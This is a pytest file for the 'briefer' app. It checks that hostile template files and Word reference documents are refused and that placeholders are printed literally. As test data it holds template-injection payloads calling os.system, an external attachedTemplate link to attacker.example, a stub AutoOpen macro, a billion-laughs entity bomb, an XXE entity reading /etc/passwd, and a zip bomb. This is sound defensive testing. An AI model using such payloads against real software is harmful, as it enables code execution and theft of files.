"""Hostile templates: `.brieftemplate` files and the Word reference
document a template may carry (``briefer/templates/reference_docx.py``).

A template comes from a colleague's mail or a shared drive.  It must never
run code: placeholders are data, printed literally or not at all, and a
Word document is checked with zipfile and a locked-down XML parser before
python-docx sees it.
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from pathlib import Path

import pytest

from briefer.model import Brief
from briefer.templates import TemplateFileError, template_from_bytes
from helpers import squeeze


try:
    from briefer.templates.reference_docx import ReferenceDocxError, load_reference_docx
except ImportError:  # pragma: no cover - the module is part of the templates work
    load_reference_docx = None  # type: ignore[assignment]

needs_reference_docx = pytest.mark.skipif(load_reference_docx is None, reason="briefer/templates/reference_docx.py missing")


def _template_file(template: dict, version: int = 1) -> bytes:
    return json.dumps({"format": "briefer-template", "version": version, "template": template}).encode()


def _export_with(template, brief: Brief):  # noqa: ANN001, ANN202
    from helpers.exporting import export_to

    from .conftest import Exported

    pdf, docx = io.BytesIO(), io.BytesIO()
    pages = export_to(brief, pdf, "pdf", template)
    export_to(brief, docx, "docx", template)
    return Exported(pdf.getvalue(), docx.getvalue(), int(pages or 0))


# --------------------------------------------------------------------------
# Template files
# --------------------------------------------------------------------------

TEMPLATE_FILE_CASES = {
    "empty": (b"", ("empty",)),
    "malformed-json": (_template_file({"name": "x"})[:-7], ("not valid json",)),
    "newer-version": (_template_file({"name": "x"}, version=2), ("newer", "template format 2", "up to 1")),
    "a-brief-not-a-template": (b'{"format": "briefer-brief", "version": 1, "brief": {"title": "x"}}', ("this is a brief",)),
    "nested-deep": (b'{"format": "briefer-template", "version": 1, "template": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", ("nested too deeply", "template")),
    "duplicate-keys": (b'{"format": "briefer-template", "version": 1, "template": {"name": "a", "name": "b"}}', ("'name'", "twice")),
    "control-char-in-name": (_template_file({"name": "evil\u0007"}), ("name",)),
    "skeleton-not-a-brief": (_template_file({"name": "x", "skeleton": {"participants": "everyone"}}), ("skeleton", "participants")),
    "nan-margin": (b'{"format": "briefer-template", "version": 1, "template": {"name": "x", "layout": {"margins_mm": {"top": NaN}}}}', ("nan",)),
}


@pytest.mark.parametrize("name", list(TEMPLATE_FILE_CASES))
def test_template_file_refused(name: str) -> None:
    data, words = TEMPLATE_FILE_CASES[name]
    with pytest.raises(TemplateFileError) as info:
        template_from_bytes(data)
    message = str(info.value)
    assert "\n" not in message
    for w in words:
        assert w in message.lower(), message


PAYLOADS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% import os %}{{ os.system('touch SENTINEL') }}",
    "${__import__('os').system('touch SENTINEL')}",
    "%(__class__)s {0.__class__} {}",
    "<font name='Courier'>x</font><para>",
]


def test_placeholder_code_is_never_run_and_printed_literally(tmp_path: Path) -> None:
    sentinel = tmp_path / "pwned"
    payloads = [p.replace("SENTINEL", str(sentinel)) for p in PAYLOADS]
    data = _template_file(
        {
            "name": "hostile",
            "title": "Hostile " + payloads[0],
            "layout": {"section_titles": {"summary": "Sum " + payloads[3], "background": "Back " + payloads[4]}},
            "skeleton": {"summary": "\n\n".join(payloads), "background": payloads[1]},
            "hints": {"summary": "HINT " + payloads[1], "title": "HINT " + payloads[0]},
        }
    )
    template = template_from_bytes(data)
    brief = template.new_brief("Meeting {{ 7*7 }}")
    assert brief.summary == "\n\n".join(payloads)
    out = _export_with(template, brief)
    assert not sentinel.exists()
    for shown in (out.pdf_text, out.docx_text):
        flat = squeeze(shown)  # a wrapped line may lose its space in PDF extraction
        assert squeeze("Meeting {{ 7*7 }}") in flat
        rest = flat
        for p in payloads:
            assert squeeze(p) in flat, (p, flat[:1000])
            rest = rest.replace(squeeze(p), "")
        assert "49" not in rest  # nothing evaluated 7*7 (the payloads hold a temp path, whose digits may)
        assert squeeze("Sum " + payloads[3]) in flat
        assert "HINT" not in flat  # hints guide the writer in the app; never printed


# --------------------------------------------------------------------------
# Word reference documents
# --------------------------------------------------------------------------


def _plain_docx() -> bytes:
    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


def _rezip(replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(_plain_docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename in drop:
                continue
            z.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, data in (add or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def _with_external_relationship() -> bytes:
    rels = zipfile.ZipFile(io.BytesIO(_plain_docx())).read("word/_rels/document.xml.rels").decode()
    extra = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    return _rezip(replace={"word/_rels/document.xml.rels": rels.replace("</Relationships>", extra + "</Relationships>").encode()})


def _docm() -> bytes:
    types = zipfile.ZipFile(io.BytesIO(_plain_docx())).read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _rezip(replace={"[Content_Types].xml": types.encode()}, add={"word/vbaProject.bin": b"Attribute VB_Name = \"Evil\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub"})


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
)
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>'
)

REFERENCE_CASES = {
    "not-a-zip": (lambda: b"PK\x03\x04 this is not really a zip", ("not a .docx",)),
    "zip-bomb": (lambda: _rezip(add={"word/media/bomb.xml": b" " * (40 * 1024 * 1024)}), ("zip bomb",)),
    "docm-with-macro": (_docm, ("macro",)),
    "macro-content-type-only": (
        lambda: _rezip(replace={"[Content_Types].xml": zipfile.ZipFile(io.BytesIO(_plain_docx())).read("[Content_Types].xml").replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}),
        ("macro",),
    ),
    "external-relationship": (_with_external_relationship, ("outside the file", "attachedtemplate")),
    "billion-laughs": (lambda: _rezip(replace={"word/document.xml": _LAUGHS}), ("doctype",)),
    "external-entity-xxe": (lambda: _rezip(replace={"word/document.xml": _XXE}), ("doctype",)),
    "malformed-xml": (lambda: _rezip(replace={"word/styles.xml": b"<w:styles><unclosed>"}), ("word/styles.xml", "not well-formed")),
    "no-document-part": (lambda: _rezip(drop=("word/document.xml",)), ("word/document.xml",)),
}


@needs_reference_docx
@pytest.mark.parametrize("name", list(REFERENCE_CASES))
def test_reference_docx_refused(name: str) -> None:
    make, words = REFERENCE_CASES[name]
    data = make()
    with pytest.raises(ReferenceDocxError) as info:
        load_reference_docx(data)
    message = str(info.value)
    for w in words:
        assert w in message.lower(), message
    # the same file inside a template is refused when the template is read
    tpl = _template_file({"name": "x", "layout": {"reference_docx": base64.b64encode(data).decode()}})
    with pytest.raises(TemplateFileError) as info2:
        template_from_bytes(tpl)
    assert "reference_docx" in str(info2.value) and words[0] in str(info2.value).lower()


@needs_reference_docx
def test_plain_reference_docx_accepted_and_used_for_export() -> None:
    data = _plain_docx()
    assert load_reference_docx(data) == data
    template = template_from_bytes(
        _template_file({"name": "office", "layout": {"reference_docx": base64.b64encode(data).decode()}})
    )
    out = _export_with(template, Brief(title="With the office's styles", summary="Body text"))
    assert "With the office's styles" in out.docx_text and "Body text" in out.docx_text
    assert "Body text" in out.pdf_text
